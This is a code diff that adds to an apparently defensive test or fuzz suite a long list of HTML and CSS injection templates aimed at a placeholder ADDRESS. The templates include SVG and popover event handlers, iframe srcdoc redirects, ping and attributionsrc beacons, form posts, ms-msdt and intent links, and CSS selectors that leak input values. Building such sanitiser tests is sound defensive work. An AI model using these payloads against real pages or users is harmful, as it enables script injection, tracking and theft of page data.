@@ -234,7 +234,69 @@ MUTATIONS = tuple(
     )
 )
 
-VECTORS = (*SCRIPTS, *EVENTS, *LINKS, *AWAY, *PICTURES, *STYLES, *MUTATIONS)
+# What browsers learnt of late: ways to fetch ahead, to report, to send without a script.
+LATELY = tuple(
+    template.replace("JS", JS)
+    for template in (
+        '<script type="speculationrules">{"prefetch":[{"urls":["ADDRESS/spec"],"eagerness":"immediate"}]}</script>',
+        '<script type="speculationrules">{"prerender":[{"where":{"href_matches":"/*"},"eagerness":"immediate"}]}</script><a href="ADDRESS/spec">1</a>',
+        '<script type="importmap">{"imports":{"a":"ADDRESS/map.js"}}</script><script type="module">import "a"</script>',
+        '<script type="webbundle">{"source":"ADDRESS/b.wbn","resources":["ADDRESS/b.js"]}</script>',
+        '<link rel="expect" href="#later" blocking="render"><link rel="expect" href="ADDRESS/e#later">',
+        '<link rel="compression-dictionary" href="ADDRESS/dictionary">',
+        '<link rel="preconnect" href="ADDRESS" crossorigin><link rel="preconnect" href="//named.invalid">',
+        '<link rel="dns-prefetch" href="http://prefetched.invalid"><a href="http://linked.invalid/">1</a>',
+        '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://controlled.invalid/">1</a>',
+        '<link rel="preload" as="fetch" href="ADDRESS/f" crossorigin><link rel="preload" as="style" href="ADDRESS/s.css">',
+        '<link rel="preload" as="image" imagesrcset="ADDRESS/a.png 1x" imagesizes="9px">',
+        '<link rel="alternate stylesheet" title="x" href="ADDRESS/alt.css"><link rel="mask-icon" href="ADDRESS/mask.svg">',
+        '<link rel="monetization" href="ADDRESS/pay"><link rel="privacy-policy" href="ADDRESS/privacy">',
+        '<img attributionsrc="ADDRESS/attribution" src="ADDRESS/a.png">',
+        '<a attributionsrc="ADDRESS/attribution" href="ADDRESS/a">1</a>',
+        '<a href="ADDRESS/beacon" ping="ADDRESS/p1 ADDRESS/p2" target="_blank" rel="opener">1</a>',
+        '<iframe credentialless src="ADDRESS/credentialless"></iframe>',
+        '<iframe sandbox="allow-scripts allow-top-navigation allow-popups" src="ADDRESS/sandboxed" loading="lazy"></iframe>',
+        '<iframe allow="camera; microphone; geolocation" src="ADDRESS/allowed" csp="script-src *"></iframe>',
+        "<iframe srcdoc='<meta http-equiv=refresh content=0;url=ADDRESS/inner>'></iframe>",
+        '<iframe src="about:blank" onload="this.contentWindow.JS"></iframe>',
+        '<svg xmlns="http://www.w3.org/2000/svg"><link rel="stylesheet" href="ADDRESS/svg.css" xmlns="http://www.w3.org/1999/xhtml"/></svg>',
+        '<svg><script xlink:href="ADDRESS/x.js"></script><script xlink:href="data:,JS"></script></svg>',
+        '<svg><image xlink:href="ADDRESS/i.png" href="ADDRESS/h.png" width="9" height="9" onload="JS"></image></svg>',
+        '<svg><pattern id="p" href="ADDRESS/p.svg#x"></pattern><textPath href="ADDRESS/t.svg#x">1</textPath><mpath href="ADDRESS/m.svg#x"></mpath></svg>',
+        '<svg><discard onbegin="JS"></discard><animateMotion onbegin="JS" dur="1s"></animateMotion></svg>',
+        '<svg><foreignObject><iframe src="ADDRESS/foreign"></iframe></foreignObject></svg>',
+        '<video controls><source src="ADDRESS/a.webm" type="video/webm"><source src="ADDRESS/a.mp4" media="all"></video>',
+        '<video src="ADDRESS/v.mp4#t=1" preload="metadata" muted autoplay playsinline></video><audio><source src="ADDRESS/a.ogg"></audio>',
+        '<object data="ADDRESS/o.html" type="text/html"><object data="ADDRESS/inner.pdf" type="application/pdf"></object></object>',
+        '<embed src="ADDRESS/e.pdf" type="application/pdf"><embed type="text/html" src="ADDRESS/e.html">',
+        '<button popovertarget="x" autofocus>1</button><p id="x" popover="auto" onbeforetoggle="JS" ontoggle="JS">1</p>',
+        '<button command="show-modal" commandfor="d" autofocus>1</button><dialog id="d" onbeforetoggle="JS" oncommand="JS">1</dialog>',
+        '<input type="file" autofocus onchange="JS"><input type="color" autofocus><input type="date" autofocus>',
+        '<p contenteditable="true" onbeforeinput="JS">1</p><img usemap="#m" src="x"><map name="m"><area href="ADDRESS/area" shape="default" ping="ADDRESS/ping"></map>',
+        "<style>@import url(ADDRESS/l.css) layer(x) supports(display:grid);@namespace x url(ADDRESS/n);</style>",
+        "<style>@property --x{syntax:'<url>';inherits:false;initial-value:url(ADDRESS/prop.png)}p{background:var(--x)}</style><p>1</p>",
+        "<style>@counter-style x{system:cyclic;symbols:url(ADDRESS/c.png)}ul{list-style:x}</style><ul><li>1</ul>",
+        "<style>@page{background:url(ADDRESS/page.png)}@media print{p{background:url(ADDRESS/print.png)}}</style><p>1</p>",
+        "<style>input[value^='a']{background:url(ADDRESS/stolen)}#article:has(p){background:url(ADDRESS/has)}</style><input value='a'><p>1</p>",
+        "<style>::selection{background:url(ADDRESS/sel)}p::first-line{background:url(ADDRESS/line)}::highlight(x){background:url(ADDRESS/hl)}</style><p>1</p>",
+        "<style>#overlay,#phone,#screen{display:none!important}*{pointer-events:none!important;user-select:none!important}</style>",
+        '<p style="background:attr(data-u type(<url>));background:src(&quot;ADDRESS/src.png&quot;)" data-u="ADDRESS/attr.png">1</p>',
+        '<p style="background:url(ADDRESS/m.png crossorigin(anonymous));background:URL( &quot;ADDRESS/u.png&quot; )">1</p>',
+        '<p style="background:u\\rl(ADDRESS/e.png);background-image:url(wego:ADDRESS/w.png);background:-webkit-canvas(x)">1</p>',
+        '<img src="wego://x/0/ADDRESS/other.png"><img src="wego:0/ADDRESS"><img src="WEGO://local/0">',
+        '<img src="view-source:ADDRESS/v"><img src="intent://HOST/#Intent;end"><img src="cid:x"><img src="jar:ADDRESS/x.jar!/y.png">',
+        '<a href="intent://HOST/#Intent;scheme=http;end" autofocus>1</a><a href="ms-msdt:/id" autofocus>1</a><a href="mailto:a@b.invalid">1</a>',
+        '<form action="ADDRESS/post" method="post" enctype="text/plain" target="_blank"><input name="a" autofocus><input type="submit" formtarget="_top"></form>',
+        '<template shadowrootmode="closed"><link rel="stylesheet" href="ADDRESS/closed.css"><img src="ADDRESS/closed.png"></template>',
+        '<selectlist><button type="selectlist" onclick="JS">1</button></selectlist><select><button><img src="ADDRESS/sel.png"></button><option>1</select>',
+        '<geolocation autolocate onlocation="JS">1</geolocation><permission type="camera" onpromptaction="JS">1</permission><usermedia type="camera"></usermedia>',
+        '<img src="ADDRESS/early.png" elementtiming="x" onsecuritypolicyviolation="JS" onerror="JS"><p onsecuritypolicyviolation="JS">1</p>',
+        '<meta http-equiv="Accept-CH" content="DPR"><meta http-equiv="origin-trial" content="x"><meta http-equiv="Permissions-Policy" content="camera=*">',
+        '<meta name="theme-color" content="red"><meta name="viewport" content="width=9"><title>taken</title>',
+    )
+)
+
+VECTORS = (*LATELY, *SCRIPTS, *EVENTS, *LINKS, *AWAY, *PICTURES, *STYLES, *MUTATIONS)
 
 
 def aimed(vector: str, address: str) -> str:
